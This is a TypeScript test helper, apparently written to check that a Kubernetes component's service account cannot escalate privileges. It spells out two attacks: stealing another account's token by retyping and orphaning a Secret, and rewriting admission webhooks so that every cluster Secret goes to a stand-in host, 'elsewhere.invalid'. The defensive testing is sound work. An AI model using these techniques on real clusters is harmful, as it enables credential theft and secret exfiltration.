/** What an attacker would do who has taken a process of Sluice over: with its account, by the API server alone. */
import { usualSecretName } from "../../functions/shared/certificates/settings.ts";
import { type Api, ApiError, eventually } from "../controlplane/api.ts";

/** Two connections to the API server. */
export interface Sides {
  /** The account's that was taken over. */
  readonly attacker: Api;
  readonly administrator: Api;
  readonly namespace: string;
}

/** Resolves to the status of each answer, by what was tried. */
export type Outcome = Readonly<Record<string, number>>;

async function statusOf(api: Api, method: string, path: string, body: unknown, contentType?: string): Promise<number> {
  const { statusCode, body: answer } = await api.send(method, path, body, contentType);
  await answer.dump();
  return statusCode;
}

const mergePatch = "application/merge-patch+json";
const apply = "application/apply-patch+yaml";
const tokens = "kubernetes.io/service-account-token";

/**
 * The token of another account: the Secret is given to an owner that does not exist, so that it is collected, and is made again
 * as one that Kubernetes fills with a token. Where the account may not even change it, it is taken away by the administrator.
 */
export async function takeToken({ attacker, administrator, namespace }: Sides, victim: string): Promise<Outcome> {
  const secrets = `/api/v1/namespaces/${namespace}/secrets`;
  const path = `${secrets}/${usualSecretName}`;
  const metadata = { name: usualSecretName, annotations: { "kubernetes.io/service-account.name": victim } };
  const wanted = { apiVersion: "v1", kind: "Secret", metadata, type: tokens };
  const { metadata: before } = await administrator.get<{ metadata: { uid: string } }>(path);
  const retyped = await statusOf(attacker, "PATCH", path, { metadata, type: tokens }, mergePatch);
  const owner = { apiVersion: "v1", kind: "ConfigMap", name: "absent", uid: crypto.randomUUID() };
  const given = await statusOf(attacker, "PATCH", path, { metadata: { ownerReferences: [owner] } }, mergePatch);
  if (given >= 300) await administrator.delete(path);
  await eventually("the Secret gone", 60_000, async () =>
    (await uidOf(administrator, path)) === before.uid ? undefined : true,
  );
  return {
    retyped,
    created: await statusOf(attacker, "POST", secrets, wanted),
    applied: await statusOf(attacker, "PATCH", `${path}?fieldManager=attacker`, wanted, apply),
    replaced: await statusOf(attacker, "PUT", path, wanted),
  };
}

async function uidOf(api: Api, path: string): Promise<string | undefined> {
  try {
    return (await api.get<{ metadata: { uid: string } }>(path)).metadata.uid;
  } catch (error) {
    if (error instanceof ApiError && error.status === 404) return undefined;
    throw error;
  }
}

const admission = "/apis/admissionregistration.k8s.io/v1";
const kinds = ["Mutating", "Validating"] as const;

/** Webhook configurations that have nothing to do with Sluice are made ones that send every Secret of the cluster elsewhere. */
export async function readEverySecret({ attacker, administrator, namespace }: Sides): Promise<Outcome> {
  const outcome: Record<string, number> = {};
  for (const kind of kinds) {
    const path = `${admission}/${kind.toLowerCase()}webhookconfigurations`;
    const name = `unrelated-to-${namespace}`;
    await administrator.post(path, unrelated(`${kind}WebhookConfiguration`, name));
    const clientConfig = { url: "https://elsewhere.invalid/secrets" };
    const rules = [{ apiGroups: [""], apiVersions: ["v1"], operations: ["*"], resources: ["secrets"] }];
    const webhooks = [{ ...entry, clientConfig, rules, failurePolicy: "Ignore" }];
    outcome[`${kind} changed`] = await statusOf(attacker, "PATCH", `${path}/${name}`, { webhooks }, mergePatch);
    outcome[`${kind} replaced`] = await statusOf(attacker, "PUT", `${path}/${name}`, unrelated(kind, name));
    outcome[`${kind} created`] = await statusOf(attacker, "POST", path, unrelated(kind, `${name}-too`));
    await administrator.delete(`${path}/${name}`);
  }
  return outcome;
}

const entry = {
  name: "unrelated.example.com",
  clientConfig: { service: { namespace: "elsewhere", name: "elsewhere" } },
  admissionReviewVersions: ["v1"],
  sideEffects: "None",
};

function unrelated(kind: string, name: string): object {
  return { apiVersion: "admissionregistration.k8s.io/v1", kind, metadata: { name }, webhooks: [entry] };
}

/** Resolves to the status for each configuration that is Sluice's, by its name, where nothing of it is changed. */
export async function touchOwn({ attacker, namespace }: Sides): Promise<Outcome> {
  const own = { Mutating: `pod-eviction-${namespace}`, Validating: `zpdb-validation-${namespace}` };
  const outcome: Record<string, number> = {};
  for (const kind of kinds) {
    const path = `${admission}/${kind.toLowerCase()}webhookconfigurations/${own[kind]}`;
    outcome[own[kind]] = await statusOf(attacker, "PATCH", path, {}, mergePatch);
  }
  return outcome;
}
